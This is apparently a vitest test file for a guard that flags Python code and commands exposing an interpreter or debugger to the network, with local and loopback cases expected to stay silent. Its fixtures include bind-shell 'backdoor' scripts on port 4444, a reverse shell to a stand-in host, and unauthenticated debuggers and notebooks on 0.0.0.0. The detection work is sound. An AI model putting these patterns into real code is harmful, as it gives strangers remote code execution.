import { describe, expect, test } from 'vitest';
import { evalSpeaks, evalSpeaksIn } from '../../support/guardSpeaks.js';

// Held-out round 172: a program that runs Python it receives over a network. A `code.InteractiveConsole` whose `push`
// is fed lines read from a socket (the missed call: a socketserver handler pushing each received line), and the same
// risk in the other shapes an agent writes: `code.interact` with a socket as its terminal, RPyC's classic service on a
// port, a remote pdb, web_pdb, a Twisted manhole, an IPython kernel or the Werkzeug debugger on every interface.
// Near-misses stay silent: a developer's REPL on the local terminal, a console replaying the repository's own fixture
// file, a debug console in a test, `stack.push(x)` of any other class, a debugger bound to 127.0.0.1.
// One line per case: the file and its text (or the command), and whether the eval guard speaks.

const handler = (body: string) =>
  [
    'import code',
    'import socketserver',
    '',
    '',
    'class ConsoleHandler(socketserver.StreamRequestHandler):',
    '    def handle(self):',
    ...body.split('\n').map((line) => `        ${line}`),
    '',
    '',
    'if __name__ == "__main__":',
    '    with socketserver.TCPServer(("0.0.0.0", 7001), ConsoleHandler) as srv:',
    '        srv.serve_forever()',
    '',
  ].join('\n');

describe('a Python console fed what a network peer sends speaks', () => {
  test.each([
    // The missed call: each line received pushed into the console.
    [
      'describer/debug_console.py',
      handler(
        'console = code.InteractiveConsole({"server": self.server})\nfor raw in self.rfile:\n' +
          '    more = console.push(raw.decode().rstrip("\\n"))\n    self.wfile.write(b"... " if more else b">>> ")',
      ),
    ],
    ['tools/console.py', handler('console = code.InteractiveConsole()\nfor line in self.rfile:\n    console.push(line.decode())')],
    // Code fetched over HTTP, even with a prompt for its name: a file with an HTTP client is not read as a local REPL.
    [
      'tools/paste.py',
      'import code\nimport requests\n\nconsole = code.InteractiveConsole()\nname = input("snippet name: ")\n' +
        'for line in requests.get(f"https://paste.example.com/raw/{name}").text.splitlines():\n    console.push(line)\n',
    ],
    [
      'tools/console.py',
      handler('self.console = code.InteractiveConsole(locals())\nwhile True:\n    self.console.push(self.rfile.readline().decode())'),
    ],
    ['tools/console.py', handler('interp = code.InteractiveInterpreter()\nfor line in self.rfile:\n    interp.runsource(line.decode())')],
    [
      'tools/console.py',
      handler('interp = code.InteractiveInterpreter()\ninterp.runcode(compile(self.rfile.read().decode(), "<net>", "exec"))'),
    ],
    // A literal push first, the received line after it.
    [
      'tools/console.py',
      handler('console = code.InteractiveConsole()\nconsole.push("import os")\nfor line in self.rfile:\n    console.push(line.decode())'),
    ],
    // A subclass pushing to itself; a console from the module's own names.
    [
      'ops/netconsole.py',
      'import code\nimport socket\n\n\nclass NetConsole(code.InteractiveConsole):\n    def serve(self, conn):\n' +
        '        for line in conn.makefile():\n            self.push(line)\n',
    ],
    [
      'ops/netconsole.py',
      'from code import InteractiveConsole\nimport socket\n\nsock = socket.create_server(("", 9000))\n' +
        'conn, _ = sock.accept()\nconsole = InteractiveConsole()\nwhile data := conn.recv(4096):\n' +
        '    console.push(data.decode())\n',
    ],
    // Over a websocket and a request.
    [
      'app/ws_console.py',
      'import code\nimport websockets\n\n\nasync def shell(ws):\n    console = code.InteractiveConsole()\n' +
        '    async for message in ws:\n        console.push(message)\n',
    ],
    [
      'app/debug.py',
      'import code\nfrom flask import Flask, request\n\napp = Flask(__name__)\nconsole = code.InteractiveConsole()\n' +
        '\n\n@app.post("/console")\ndef run():\n    more = console.push(request.form["line"])\n' +
        '    return {"more": more}\n',
    ],
    // code.interact with the socket as its terminal, or a readfunc that receives.
    [
      'ops/backdoor.py',
      'import code\nimport socket\nimport sys\n\nsrv = socket.create_server(("0.0.0.0", 4444))\n' +
        'conn, _ = srv.accept()\nf = conn.makefile("rw")\nsys.stdin = sys.stdout = sys.stderr = f\n' +
        'code.interact(local=globals())\n',
    ],
    [
      'ops/backdoor.py',
      'import code\nimport os\nimport socket\n\nsrv = socket.create_server(("0.0.0.0", 4444))\n' +
        'conn, _ = srv.accept()\nfor fd in (0, 1, 2):\n    os.dup2(conn.fileno(), fd)\ncode.interact()\n',
    ],
    [
      'ops/backdoor.py',
      'import code\nimport socket\n\nconn = socket.create_connection(("ops.example", 9000))\n' +
        'code.interact(readfunc=lambda prompt: conn.recv(4096).decode(), local={})\n',
    ],
    // RPyC's classic service served on a port.
    [
      'rpc/server.py',
      'from rpyc.utils.server import ThreadedServer\nfrom rpyc.core import SlaveService\n\nThreadedServer(SlaveService, port=18812).start()\n',
    ],
    [
      'rpc/server.py',
      'import rpyc\nfrom rpyc.utils.server import ThreadedServer\n\n' +
        'ThreadedServer(rpyc.ClassicService, hostname="0.0.0.0", port=18812, auto_register=False).start()\n',
    ],
    [
      'rpc/server.py',
      'from rpyc.utils.server import ForkingServer\nfrom rpyc import SlaveService\n\nForkingServer(service=SlaveService, port=18812).start()\n',
    ],
    // Remote debuggers on every interface.
    ['svc/worker.py', 'from remote_pdb import RemotePdb\n\nRemotePdb("0.0.0.0", 4444).set_trace()\n'],
    ['svc/worker.py', 'import remote_pdb\n\nremote_pdb.set_trace(host="0.0.0.0", port=4444)\n'],
    ['svc/worker.py', 'import rpdb\n\nrpdb.set_trace(addr="0.0.0.0", port=4444)\n'],
    ['svc/worker.py', 'import debugpy\n\ndebugpy.listen(("0.0.0.0", 5678))\ndebugpy.wait_for_client()\n'],
    ['svc/worker.py', 'import web_pdb\n\nweb_pdb.set_trace()\n'],
    ['svc/worker.py', 'import web_pdb\n\nweb_pdb.set_trace(host="0.0.0.0", port=5555)\n'],
    // A Twisted manhole on a TCP port; an IPython kernel on every interface.
    [
      'svc/shell.py',
      'from twisted.conch import manhole, manhole_ssh\nfrom twisted.conch.insults import insults\n' +
        'from twisted.conch.telnet import TelnetTransport, TelnetBootstrapProtocol\n' +
        'from twisted.internet import protocol, reactor\n\nfactory = protocol.ServerFactory()\n' +
        'factory.protocol = lambda: TelnetTransport(TelnetBootstrapProtocol, insults.ServerProtocol, manhole.ColoredManhole, {"app": APP})\n' +
        'reactor.listenTCP(6023, factory)\nreactor.run()\n',
    ],
    ['svc/kernel.py', 'from IPython import embed_kernel\n\nembed_kernel(local_ns={"app": app}, ip="0.0.0.0")\n'],
    // The Werkzeug debugger (its browser console) on every interface.
    [
      'web/app.py',
      'from flask import Flask\n\napp = Flask(__name__)\n\nif __name__ == "__main__":\n    app.run(host="0.0.0.0", port=5000, debug=True)\n',
    ],
    [
      'web/serve.py',
      'from werkzeug.serving import run_simple\nfrom web.app import app\n\nrun_simple("0.0.0.0", 5000, app, use_debugger=True, use_reloader=True)\n',
    ],
    [
      'web/serve.py',
      'from werkzeug.debug import DebuggedApplication\nfrom web.app import app\n\napp.wsgi_app = DebuggedApplication(app.wsgi_app, evalex=True)\n',
    ],
    [
      'dash_app.py',
      'from dash import Dash\n\napp = Dash(__name__)\n\nif __name__ == "__main__":\n    app.run_server(debug=True, host="0.0.0.0")\n',
    ],
    // A console bound with a type annotation, fed by an asyncio stream and by a chat bot.
    [
      'ops/console.py',
      'import asyncio\nimport code\n\n\nasync def handle(reader, writer):\n' +
        '    console: code.InteractiveConsole = code.InteractiveConsole()\n    while line := await reader.readline():\n' +
        '        console.push(line.decode())\n\n\nasyncio.run(asyncio.start_server(handle, "0.0.0.0", 7002))\n',
    ],
    [
      'bot/console.py',
      'import code\nimport discord\n\nconsole = code.InteractiveConsole()\n' +
        'client = discord.Client(intents=discord.Intents.default())\n\n\n@client.event\n' +
        'async def on_message(message):\n    if message.content.startswith("!py "):\n' +
        '        console.push(message.content[4:])\n',
    ],
  ])('%s %#', (file, content) => expect(evalSpeaks(`/p/${file}`, content)).toBe(true));
});

describe('a command serving a Python console or debugger on every interface speaks', () => {
  test.each([
    'flask --app web.app run --host=0.0.0.0 --debug',
    'FLASK_DEBUG=1 flask run --host 0.0.0.0 --port 8000',
    '.venv/bin/flask run -h 0.0.0.0 --debug',
    'rpyc_classic.py --host 0.0.0.0 --port 18812',
    'rpyc_classic --host=0.0.0.0',
    'python -m debugpy --listen 0.0.0.0:5678 --wait-for-client app.py',
    'REMOTE_PDB_HOST=0.0.0.0 REMOTE_PDB_PORT=4444 python worker.py',
    'ipython kernel --ip=0.0.0.0',
    "jupyter notebook --ip=0.0.0.0 --no-browser --NotebookApp.token=''",
    "jupyter lab --ip 0.0.0.0 --ServerApp.token='' --ServerApp.password=''",
    'twistd -n manhole --telnetPort 6023',
    'FLASK_RUN_HOST=0.0.0.0 FLASK_DEBUG=1 flask run',
    'python manage.py runserver_plus 0.0.0.0:8000',
    'python -m rpyc.cli.rpyc_classic --host 0.0.0.0',
  ])('%s', (command) => expect(evalSpeaksIn(command)).toBe(true));
});

describe("a local REPL, a console fed the repository's own text, a test, another push and a loopback debugger stay silent", () => {
  test.each([
    // A developer's REPL on the local terminal.
    ['tools/shell.py', 'import code\n\nfrom app import db, models\n\ncode.interact(local={"db": db, "models": models})\n'],
    [
      'tools/shell.py',
      'import code\nimport readline\n\nconsole = code.InteractiveConsole(locals())\nconsole.interact(banner="app shell")\n',
    ],
    ['tools/shell.py', 'import code\n\nconsole = code.InteractiveConsole()\nwhile True:\n    console.push(input(">>> "))\n'],
    // The terminal read as `interact()` itself reads it, or through prompt_toolkit (review of round 172's class).
    [
      'tools/shell.py',
      'import code\n\nconsole = code.InteractiveConsole(locals())\nwhile True:\n' +
        '    line = console.raw_input(">>> ")\n    console.push(line)\n',
    ],
    [
      'tools/shell.py',
      'import code\nfrom prompt_toolkit import PromptSession\n\nsession = PromptSession()\nconsole = code.InteractiveConsole()\n' +
        'while True:\n    console.push(session.prompt(">>> "))\n',
    ],
    // Fixed lines, and the repository's own fixture file replayed.
    ['tools/demo.py', 'import code\n\nconsole = code.InteractiveConsole()\nconsole.push("import math")\nconsole.push("print(math.pi)")\n'],
    ['tools/demo.py', 'import code\n\nconsole = code.InteractiveConsole()\nfor line in ["x = 1", "print(x)"]:\n    console.push(line)\n'],
    [
      'tools/replay.py',
      'import code\n\nconsole = code.InteractiveConsole()\nwith open("tests/fixtures/session.txt") as fh:\n' +
        '    for line in fh:\n        console.push(line.rstrip("\\n"))\n',
    ],
    [
      'tools/replay.py',
      'import code\nfrom pathlib import Path\n\ninterp = code.InteractiveInterpreter()\n' +
        'for line in Path("fixtures/console_session.py").read_text().splitlines():\n    interp.runsource(line)\n',
    ],
    // A debug console in a test.
    [
      'tests/test_console.py',
      'import code\nimport pytest\n\n\n@pytest.mark.parametrize("line", ["1 + 1", "x = 2"])\ndef test_push(line):\n' +
        '    console = code.InteractiveConsole()\n    assert console.push(line) is False\n',
    ],
    // `push` of any other object: a stack, a channel, a queue.
    [
      'lib/stack.py',
      'class Stack:\n    def __init__(self):\n        self.items = []\n\n    def push(self, x):\n' +
        '        self.items.append(x)\n\n\nstack = Stack()\nfor x in data:\n    stack.push(x)\n',
    ],
    [
      'lib/notify.py',
      'import socket\n\nfrom pusher import Pusher\n\nclient = Pusher(app_id="1")\nfor line in conn.makefile():\n    client.push(line)\n',
    ],
    // Debuggers bound to the loopback address (remote_pdb's and rpdb's default), the classic service on localhost.
    ['svc/worker.py', 'from remote_pdb import RemotePdb\n\nRemotePdb("127.0.0.1", 4444).set_trace()\n'],
    ['svc/worker.py', 'import remote_pdb\n\nremote_pdb.set_trace()\n'],
    ['svc/worker.py', 'import rpdb\n\nrpdb.set_trace()\n'],
    ['svc/worker.py', 'import debugpy\n\ndebugpy.listen(5678)\n'],
    ['svc/worker.py', 'import debugpy\n\ndebugpy.listen(("127.0.0.1", 5678))\n'],
    ['svc/worker.py', 'import web_pdb\n\nweb_pdb.set_trace(host="127.0.0.1")\n'],
    ['svc/worker.py', 'import pdb\n\npdb.set_trace()\n'],
    [
      'rpc/server.py',
      'from rpyc.utils.server import ThreadedServer\nfrom rpyc.core import SlaveService\n\n' +
        'ThreadedServer(SlaveService, hostname="localhost", port=18812).start()\n',
    ],
    // A service with named methods only; a client of a classic server.
    [
      'rpc/server.py',
      'import rpyc\nfrom rpyc.utils.server import ThreadedServer\n\n\nclass Svc(rpyc.Service):\n' +
        '    def exposed_ping(self):\n        return "pong"\n\n\nThreadedServer(Svc, port=18861).start()\n',
    ],
    ['rpc/client.py', 'import rpyc\n\nconn = rpyc.classic.connect("build-01")\nprint(conn.modules.sys.platform)\n'],
    // The manhole package (a UNIX socket for the owner), a kernel on its default address.
    ['svc/app.py', 'import manhole\n\nmanhole.install(locals={"app": app})\n'],
    ['svc/kernel.py', 'from IPython import embed_kernel\n\nembed_kernel(local_ns={"app": app})\n'],
    // Flask's debugger on its default host, or on every interface without it.
    ['web/app.py', 'from flask import Flask\n\napp = Flask(__name__)\n\nif __name__ == "__main__":\n    app.run(debug=True)\n'],
    [
      'web/app.py',
      'from flask import Flask\n\napp = Flask(__name__)\n\nif __name__ == "__main__":\n    app.run(host="0.0.0.0", port=8080)\n',
    ],
    ['web/app.py', 'from flask import Flask\n\napp = Flask(__name__)\napp.run(host="127.0.0.1", debug=True)\n'],
    ['dash_app.py', 'from dash import Dash\n\napp = Dash(__name__)\napp.run(debug=True)\n'],
    ['svc/kernel.py', 'import subprocess\nfrom flask import Flask\n\nsubprocess.run(["make", "docs"], check=True)\n'],
  ])('%s %#', (file, content) => expect(evalSpeaks(`/p/${file}`, content)).toBe(false));
});

describe('commands on the loopback address or without a console stay silent', () => {
  test.each([
    'flask --app web.app run --debug',
    'flask run --host 0.0.0.0',
    'flask run --host=127.0.0.1 --debug',
    'rpyc_classic.py --port 18812',
    'python -m debugpy --listen 5678 app.py',
    'python -m debugpy --listen 127.0.0.1:5678 app.py',
    'jupyter notebook --ip=0.0.0.0 --no-browser',
    'jupyter lab --no-browser',
    'ipython kernel',
    'python manage.py runserver 0.0.0.0:8000',
    'python manage.py runserver_plus',
    'twistd -n manhole --telnetPort "tcp:6023:interface=127.0.0.1"',
  ])('%s', (command) => expect(evalSpeaksIn(command)).toBe(false));
});
